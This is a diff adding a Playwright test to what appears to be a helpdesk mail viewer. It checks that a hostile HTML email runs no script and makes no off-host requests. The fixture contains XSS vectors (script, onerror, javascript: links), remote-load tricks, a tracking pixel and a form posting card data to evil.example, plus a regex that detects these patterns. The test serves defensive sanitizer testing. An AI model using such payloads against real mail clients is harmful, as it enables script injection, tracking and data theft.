@@ -126,3 +126,49 @@ test('offline: an acknowledgement waits in the outbox while the servers are down
   }
   await expect.poll(async () => (await customerInbox(ticketId)).length, { timeout: 90_000 }).toBe(1);
 });
+
+// Every trick a hostile mail can try; each would set the canary `__pwned` or reach evil.example.
+const HOSTILE_HTML = `<html><head>
+<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
+<link rel="stylesheet" href="https://evil.example/link.css">
+<style>@import url(https://evil.example/import.css); body { background: url(https://evil.example/bg.png); }</style>
+<base href="https://evil.example/">
+</head><body onload="parent.__pwned='onload'">
+<script>parent.__pwned = 'script'; top.__pwned = 'script';</script>
+<p>Votre facture est <b>en pièce jointe</b>.</p>
+<img src="x" onerror="parent.__pwned='onerror'">
+<img src="https://tracker.example/pixel.gif" width="1" height="1">
+<a href="javascript:parent.__pwned='link'" id="trap">Voir la facture</a>
+<form action="https://evil.example/steal" method="post"><input name="card" value="4111"><button>Payer</button></form>
+<svg><script>parent.__pwned='svg'</script><image href="https://evil.example/svg.png"/></svg>
+<iframe src="https://evil.example/frame"></iframe>
+<object data="https://evil.example/object.swf"></object>
+<div style="background-image:url('https://evil.example/inline.png')">Fond</div>
+</body></html>`;
+
+test('a hostile HTML mail runs no script and makes no request off this computer', async ({ page }) => {
+  const offHost: string[] = [];
+  page.on('request', (request) => {
+    const url = new URL(request.url());
+    if (url.hostname !== '127.0.0.1' && !['data:', 'about:'].includes(url.protocol)) offHost.push(request.url());
+  });
+  await page.route((url) => url.hostname !== '127.0.0.1', (route) => route.abort());
+  await openDesk(page, agentA.url);
+  const subject = `Votre facture ${Date.now()}`;
+  await sendMail(server, { from: 'customer2', to: 'consumer', subject, text: 'Votre facture est en pièce jointe.', html: HOSTILE_HTML });
+  await searchFor(page, subject);
+  const card = column(page, 'consumer').locator('[data-testid="ticket-card"]').filter({ hasText: subject });
+  await expect(card).toBeVisible({ timeout: 15_000 });
+  await card.locator('.card-open').click();
+  const frame = page.getByTestId('mail-frame');
+  await expect(frame).toBeVisible({ timeout: 15_000 });
+  await expect(frame).toHaveAttribute('sandbox', '');
+  const content = page.frameLocator('[data-testid="mail-frame"]');
+  await expect(content.getByText('Voir la facture')).toBeVisible();
+  await content.getByText('Voir la facture').click();
+  expect(await page.evaluate(() => (globalThis as { __pwned?: unknown }).__pwned)).toBeUndefined();
+  for (const f of page.frames()) expect(f.url()).toMatch(/^(http:\/\/127\.0\.0\.1|about:srcdoc|about:blank)/);
+  const srcdoc = (await frame.getAttribute('srcdoc')) ?? '';
+  expect(srcdoc).not.toMatch(/<script|onerror=|onload=|javascript:|<form|<iframe|<object|<base\b|<link|http-equiv="?refresh|\s(src|href|action|data)="https?:|url\(['"]?https?:|@import/i);
+  expect(offHost).toEqual([]);
+});
